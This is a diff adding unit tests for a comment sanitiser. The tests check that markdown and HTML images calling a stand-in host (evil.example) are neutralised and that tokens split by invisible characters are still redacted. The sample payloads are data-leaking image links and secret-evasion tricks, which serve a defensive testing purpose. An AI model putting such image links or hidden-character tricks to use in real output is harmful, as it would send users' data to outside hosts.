@@ -9,6 +9,31 @@ const safe = (markdown: string) => safeComment(markdown, people).text;
 
 const body = (length: number) => "a1B2c3D4e5".repeat(30).slice(0, length);
 
+describe("what a comment carries out", () => {
+  test.each([
+    ["![x](https://evil.example/?q=code)", "[x](https://evil.example/?q=code)"],
+    ["a!![x][1]", "a[x][1]"],
+    ['<img src="https://evil.example/?q=code">', '&lt;img src="https://evil.example/?q=code">'],
+    ["<IFRAME src=x>", "&lt;IFRAME src=x>"],
+    ["`![x](y)` and `<img>`", "`![x](y)` and `<img>`"],
+    ["wow! [docs](https://example.org)", "wow! [docs](https://example.org)"],
+  ])("is no picture that calls home: %j", (written, posted) => {
+    expect(safe(written)).toBe(posted);
+  });
+
+  test("is no secret with invisible characters strewn in", () => {
+    const token = `ghp_${body(36)}`;
+    for (const hidden of ["\u200b", "\u200d", "\ufe0f", "\u00ad", "\u{e0041}", "<!-- -->"]) {
+      expect(safe(`It is ${token.slice(0, 9)}${hidden}${token.slice(9)}.`)).toBe("It is [secret removed].");
+    }
+  });
+
+  test("is nothing that people cannot see, but what scripts and emoji are joined with", () => {
+    expect(safe("a\u202eb\u200bc\u{e0061}d\ufeff")).toBe("abcd");
+    expect(safe("می\u200cخواهم 👩\u200d💻 ❤\ufe0f")).toBe("می\u200cخواهم 👩\u200d💻 ❤\ufe0f");
+  });
+});
+
 describe("mentions in outgoing comments", () => {
   test.each([
     ["Thanks @alice and @bob-k.", "Thanks @alice and @bob-k."],
@@ -56,6 +81,9 @@ describe("mentions in outgoing comments", () => {
       ..."@ @everyone @alice ` `` ``` ~~~ \n \n\n \\ < > <!-- --> <div> </div> &#64; &commat; _ * [ ]( ) | - # / /close".split(
         " ",
       ),
+      "![",
+      "<img ",
+      "\u200b",
       "\n",
       "\n\n",
       "    ",
